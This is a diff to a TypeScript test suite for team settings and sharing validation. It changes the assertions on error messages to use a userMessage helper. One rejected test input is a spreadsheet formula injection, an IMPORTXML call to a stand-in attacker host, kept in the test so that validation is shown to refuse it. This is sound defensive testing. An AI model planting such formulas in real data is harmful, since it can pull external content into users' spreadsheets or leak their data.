@@ -17,6 +17,7 @@ import { readSettings } from '../../src/server/settings-store';
 import type { TeamMember } from '../../src/shared/team';
 import { defaultTeamSettings, type TeamSettings } from '../../src/shared/team-settings';
 import { testSettings } from './kpi-emulator-fixture';
+import { userMessage } from '../support/user-message';
 
 const OWNER = 'owner@example.com';
 const ANNA: TeamMember = { id: 'anna', name: 'Anna', email: 'anna@example.com', roleId: 'head', monthlyCost: 250_000, employment: 'staff' };
@@ -210,8 +211,8 @@ describe('refused or harmless input', () => {
     builtTemplate();
     expect(() => saveTeam(teamWith([{ ...VERA, email: 'vera@' }]))).toThrow('Person 1 (Vera), email: "vera@" is not an email address');
     expect(() => saveTeam(teamWith([{ ...VERA, roleId: 'astrologer' }]))).toThrow('role: "astrologer" is not one of the team\'s roles');
-    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")'], notify: false })).toThrow(/^The sharing request is not valid: personIds\.0/);
-    expect(() => shareWithTeam({ personIds: ['vera'], notify: 'yes' })).toThrow(/^The sharing request is not valid: notify/);
+    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")'], notify: false })).toThrow(userMessage(/^The sharing request is not valid: personIds\.0/));
+    expect(() => shareWithTeam({ personIds: ['vera'], notify: 'yes' })).toThrow(userMessage(/^The sharing request is not valid: notify/));
     expect(() => shareWithTeam({ personIds: ['nobody'], notify: false })).toThrow('These people are no longer in the team: nobody.');
   });
 
